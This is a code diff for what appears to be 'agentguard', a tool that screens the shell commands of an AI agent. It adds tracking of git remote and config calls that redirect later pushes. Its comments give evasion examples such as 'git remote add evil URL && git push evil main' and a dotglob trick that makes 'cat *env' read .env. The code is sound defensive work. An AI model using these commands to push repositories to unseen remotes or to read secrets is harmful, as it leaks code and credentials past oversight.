@@ -62,6 +62,45 @@ export function definitionsOf(command: string): string[] {
   return out;
 }
 
+/** A git call that changes where a later git call sends or fetches: a remote, its URL, a URL rewrite. */
+const REPO_SETTING = /\bgit\b[\s\S]*\b(?:remote|config|insteadOf|pushurl|url)\b/;
+
+/**
+ * The git calls of a line that set what later git calls reach (`git remote add evil URL`, `git remote set-url`,
+ * `git config remote.origin.url URL`, `git config url.X.insteadOf Y`). In a real terminal they write .git/config and
+ * the next call reads it from disk; in a dry run (`agentguard eval --session`) nothing is written, so they are
+ * replayed before every later call instead, which then sees the remote as the same line would (`git remote add
+ * evil URL && git push evil main` is asked). Threat: the push on the next line went to a remote the guard never saw.
+ */
+export function repoSettingsOf(command: string): string[] {
+  if (!REPO_SETTING.test(command)) return [];
+  let script;
+  try {
+    script = parse(command);
+  } catch {
+    return [];
+  }
+  const out: string[] = [];
+  const visit = (node: { type: string; pos: number; end: number } & Record<string, unknown>): void => {
+    if (node.type === 'Command') {
+      const name = (node.name as { value?: string } | undefined)?.value;
+      if (name !== 'git' || !Array.isArray(node.suffix)) return;
+      const words = (node.suffix as { value?: unknown }[]).map((w) => (typeof w.value === 'string' ? w.value : ''));
+      const verb = words.findIndex((w) => w === 'remote' || w === 'config');
+      if (verb < 0) return;
+      const sets =
+        words[verb] === 'remote'
+          ? /^(add|set-url|rename|set-head|set-branches)$/.test(words[verb + 1] ?? '')
+          : words.slice(verb + 1).some((w) => /^(remote\.|url\.|branch\.)/i.test(w));
+      if (sets) out.push(command.slice(node.pos, node.end));
+    } else if (node.type === 'AndOr') for (const c of node.commands as never[]) visit(c);
+    else if (node.type === 'BraceGroup')
+      for (const st of (node.body as { commands: { command: never; background?: boolean }[] }).commands) if (!st.background) visit(st.command);
+  };
+  for (const st of script.commands) if (!st.background) visit(st.command as never);
+  return out;
+}
+
 /**
  * Shell state kept between calls that changes what later words mean: shell options (`shopt -s dotglob` makes
  * the next call's `cat *env` read .env, `shopt -s autocd` makes `.git/hooks` a `cd`, `set -o …`), and the
@@ -109,11 +148,12 @@ function capped(list: (string | null)[]): (string | null)[] {
  * The state after `command` was let through (allowed, or handed to a person who may run it): every place it
  * may leave the shell in is possible until its after-hook says it ran (settle). `id` joins the two hooks.
  */
-export function afterAllowed(command: string, state: TerminalState, id: string, env: CommandEnv): TerminalState {
+export function afterAllowed(command: string, state: TerminalState, id: string, env: CommandEnv, dryRun = false): TerminalState {
   const root = env.workspace;
   const ends: (string | null)[] = [];
   for (const p of [undefined, ...places(state)]) addPlace(ends, endOf(command, state, p, env), root);
-  const defs = state.defs.concat(definitionsOf(command));
+  // A dry run writes nothing: the repository settings a line makes are replayed instead (repoSettingsOf).
+  const defs = state.defs.concat(definitionsOf(command), dryRun ? repoSettingsOf(command) : []);
   const cwds = state.cwds.slice();
   if (state.pending) for (const p of state.pending.cwds) addPlace(cwds, p, root);
   if (defs.join('\n').length > MAX_DEFS_CHARS) return { v: 1, cwds: [null], defs: state.defs, pending: undefined };
